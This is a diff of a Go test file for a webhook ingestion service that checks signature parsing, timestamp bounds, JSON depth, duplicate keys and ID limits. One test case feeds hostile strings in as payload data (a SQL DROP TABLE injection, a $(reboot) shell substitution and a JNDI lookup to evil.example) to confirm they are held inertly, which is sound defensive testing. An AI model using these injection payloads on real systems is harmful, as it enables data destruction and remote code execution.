@@ -53,8 +53,7 @@ func TestCatalogueHead(t *testing.T) {
 		{"3 DELETE", func(d *delivery) { d.method = "DELETE" }, 405, onlyPost},
 		{"3 TRACE", func(d *delivery) { d.method = "TRACE" }, 405, onlyPost},
 		{"3 post", func(d *delivery) { d.method = "post" }, 405, onlyPost},
-		// 200 by the catalogue; no preset of now has a provider that probes.
-		{"4 HEAD", func(d *delivery) { d.method = "HEAD" }, 405, onlyPost},
+		{"4 HEAD, where nobody probes", func(d *delivery) { d.method = "HEAD" }, 405, onlyPost},
 		{"5 OPTIONS", func(d *delivery) {
 			d.method = "OPTIONS"
 			d.header.Set("Origin", "https://evil.example")
@@ -200,13 +199,13 @@ func TestCatalogueGitHubSignature(t *testing.T) {
 		{"31 empty", value("")},
 		{"31 prefix only", value("sha256=")},
 		{"31 no prefix", value(mac)},
-		{"31 no =", value("sha256" + mac)},
-		{"31 two bytes", value("sha256=abcd")},
-		{"31 63 digits", value("sha256=" + mac[:63])},
-		{"31 65 digits", value("sha256=" + mac + "0")},
+		{"31 A61 no =", value("sha256" + mac)},
+		{"31 A61 two bytes", value("sha256=abcd")},
+		{"31 A61 63 digits", value("sha256=" + mac[:63])},
+		{"31 A61 65 digits", value("sha256=" + mac + "0")},
 		{"31 66 digits", value("sha256=" + mac + "00")},
-		{"31 no hex", value("sha256=" + strings.Repeat("zz", 32))},
-		{"31 1 MB of hex", value("sha256=" + strings.Repeat("ab", 1<<19))},
+		{"31 A61 no hex", value("sha256=" + strings.Repeat("zz", 32))},
+		{"31 A61 1 MB of hex", value("sha256=" + strings.Repeat("ab", 1<<19))},
 		{"32 unknown version", value("v9=" + mac)},
 		{"33 SHA-1 only", func(d *delivery) {
 			sha1 := signature.GitHub()
@@ -264,19 +263,19 @@ func TestCatalogueStripeSignature(t *testing.T) {
 		{"41 two timestamps", stamp + "," + good},
 		{"41 empty", at("")},
 		{"41 no number", at("noon")},
-		{"41 negative", at("-1")},
-		{"41 zero", at("0")},
+		{"41 A63 negative", at("-1")},
+		{"41 A63 zero", at("0")},
 		{"41 with a sign", at("+" + strconv.FormatInt(noon.Unix(), 10))},
 		{"41 1e20", at("1e20")},
-		{"41 2^63", at("9223372036854775808")},
+		{"41 A63 2^63", at("9223372036854775808")},
 		{"41 milliseconds", at(strconv.FormatInt(noon.UnixMilli(), 10))},
 		{"41 microseconds", at(strconv.FormatInt(noon.UnixMicro(), 10))},
 		{"41 RFC 3339", at(noon.Format(time.RFC3339))},
 		{"41 another time than was signed", at(strconv.FormatInt(noon.Unix()+1, 10))},
 		{"42 too old", sent(-5*time.Minute - time.Second)},
 		{"43 too far ahead", sent(5*time.Minute + time.Second)},
-		{"43 an hour ahead", sent(time.Hour)},
-		{"43 ten years ahead", sent(10 * 365 * 24 * time.Hour)},
+		{"43 A63 an hour ahead", sent(time.Hour)},
+		{"43 A63 ten years ahead", sent(10 * 365 * 24 * time.Hour)},
 		{"43 the last time that can be written", at("999999999999")},
 	}
 	for _, tt := range tests {
@@ -386,8 +385,8 @@ func TestCataloguePayload(t *testing.T) {
 		{"53 depth of 129", with(`"data":`+deep(128), id, typ, rest), "/data" + strings.Repeat("/0", 57) + ": nested deeper than 128", ""},
 		{"53 depth of 10,001", deep(10_001), strings.Repeat("/0", 60) + ": nested deeper than 128", ""},
 		{"53 depth of 200,000, never closed", strings.Repeat("[", 200_000), strings.Repeat("/0", 60) + ": nested deeper than 128", ""},
-		{"54 id twice", with(id, `"event_id":"evt_2"`, typ, rest), `/event_id: duplicate key "event_id"`, ""},
-		{"54 id twice, the other way round", with(`"event_id":"evt_2"`, id, typ, rest), `/event_id: duplicate key "event_id"`, ""},
+		{"54 A68 id twice", with(id, `"event_id":"evt_2"`, typ, rest), `/event_id: duplicate key "event_id"`, ""},
+		{"54 A68 id twice, the other way round", with(`"event_id":"evt_2"`, id, typ, rest), `/event_id: duplicate key "event_id"`, ""},
 		{"54 id twice, once escaped", with(id, `"event\u005fid":"evt_2"`, typ, rest), `/event_id: duplicate key "event_id"`, ""},
 		{"54 any key twice, deep inside", with(`"data":{"a":[{"b":1,"b":1}]}`, id, typ, rest), `/data/a/0/b: duplicate key "b"`, ""},
 		{"55 id and ID", with(id, `"EVENT_ID":"evt_2"`, typ, rest), `/event_id: keys "event_id" and "EVENT_ID" differ only in case`, ""},
@@ -405,11 +404,11 @@ func TestCataloguePayload(t *testing.T) {
 		{"57 bool", ofID("true"), "event_id: is a bool, want a string", ""},
 		{"57 object", ofID(`{"id":"evt_1"}`), "event_id: is an object, want a string", ""},
 		{"57 array", ofID(`["evt_1"]`), "event_id: is an array, want a string", ""},
-		{"58 256 bytes", ofID(`"` + strings.Repeat("x", 256) + `"`), "event_id: is longer than 255 bytes", ""},
+		{"58 A71 256 bytes", ofID(`"` + strings.Repeat("x", 256) + `"`), "event_id: is longer than 255 bytes", ""},
 		{"58 64 characters of four bytes", ofID(`"` + strings.Repeat("🪝", 64) + `"`), "event_id: is longer than 255 bytes", ""},
 		{"58 64 of them, escaped", ofID(`"` + strings.Repeat(`\ud83e\ude9d`, 64) + `"`), "event_id: is longer than 255 bytes", ""},
-		{"58 10,000 bytes", ofID(`"` + strings.Repeat("x", 10_000) + `"`), "event_id: is longer than 255 bytes", ""},
-		{"59 NUL", ofID(`"a\u0000b"`), "event_id: has a control character", ""},
+		{"58 A71 10,000 bytes", ofID(`"` + strings.Repeat("x", 10_000) + `"`), "event_id: is longer than 255 bytes", ""},
+		{"59 A70 NUL", ofID(`"a\u0000b"`), "event_id: has a control character", ""},
 		{"59 LF", ofID(`"a\n"`), "event_id: has a control character", ""},
 		{"59 CR and LF", ofID(`"a\r\nb"`), "event_id: has a control character", ""},
 		{"59 escape", ofID(`"\u001b[2J"`), "event_id: has a control character", ""},
@@ -549,7 +548,7 @@ func TestCatalogueHeld(t *testing.T) {
 	t.Parallel()
 	const rest = `"event_type":"payment.captured","amount":1099,"timestamp":1700000000`
 	ids := []struct{ name, json, id string }{
-		{"58 255 bytes", strings.Repeat("x", 255), strings.Repeat("x", 255)},
+		{"58 A71 255 bytes", strings.Repeat("x", 255), strings.Repeat("x", 255)},
 		{"58 64 bytes", strings.Repeat("x", 64), strings.Repeat("x", 64)},
 		{"58 255 bytes, mostly of four-byte characters", strings.Repeat("🪝", 63) + "abc", strings.Repeat("🪝", 63) + "abc"},
 		{"58 255 bytes, of longer escapes", strings.Repeat(`\u0041`, 255), strings.Repeat("A", 255)},
@@ -559,7 +558,7 @@ func TestCatalogueHeld(t *testing.T) {
 		{"59 spaces", " a  b ", " a  b "},
 		{"59 markup", `<b>&amp;</b>`, "<b>&amp;</b>"},
 		{"59 line separator", `a\u2028b`, "a\u2028b"},
-		{"59 escaped escape of NUL", `a\\u0000b`, `a\u0000b`},
+		{"59 A70 escaped escape of NUL", `a\\u0000b`, `a\u0000b`},
 		{"59 the word unknown", "unknown", "unknown"},
 		{"60 composed", "caf\u00e9", "caf\u00e9"},
 		{"60 decomposed", "cafe\u0301", "cafe\u0301"},
@@ -585,7 +584,7 @@ func TestCatalogueHeld(t *testing.T) {
 		{"65 amount of 0", strings.Replace(payment, "1099", "0", 1)},
 		{"65 numbers that no float holds", strings.Replace(payment, "{", `{"n":[9007199254740993,1e999,-0,1.50,0.123456789012345678901234567890],`, 1)},
 		{"67 unknown fields", strings.Replace(payment, "{", `{"new":{"a":[null,true]},"":0,`, 1)},
-		{"70 NUL, escaped", strings.Replace(payment, "{", `{"a\u0000":"\u0000 \\u0000",`, 1)},
+		{"A70 NUL, escaped", strings.Replace(payment, "{", `{"a\u0000":"\u0000 \\u0000",`, 1)},
 		{"72 SQL, shell and templates", strings.Replace(payment, "{", `{"a":"'; DROP TABLE x; --","b":"$(reboot)","c":"{{.}} ${jndi:ldap://evil.example}",`, 1)},
 		{"85 dated at the beginning", strings.Replace(payment, "1700000000", "1", 1)},
 		{"85 dated far ahead", strings.Replace(payment, "1700000000", "99999999999", 1)},
@@ -633,8 +632,8 @@ func TestCatalogueLookAlikes(t *testing.T) {
 	}
 }
 
-// 89: by the catalogue Postgres holds what Redis cannot. Ingest has one queue
-// so far, so the provider is asked to try again; and it is 503 too if both are down (88).
+// 88 and 89: which store holds an event is for pkg/custody to find, and tested
+// there. If none does, the provider is asked to try again.
 func TestCatalogueQueueDown(t *testing.T) {
 	t.Parallel()
 	r := newRig(t)
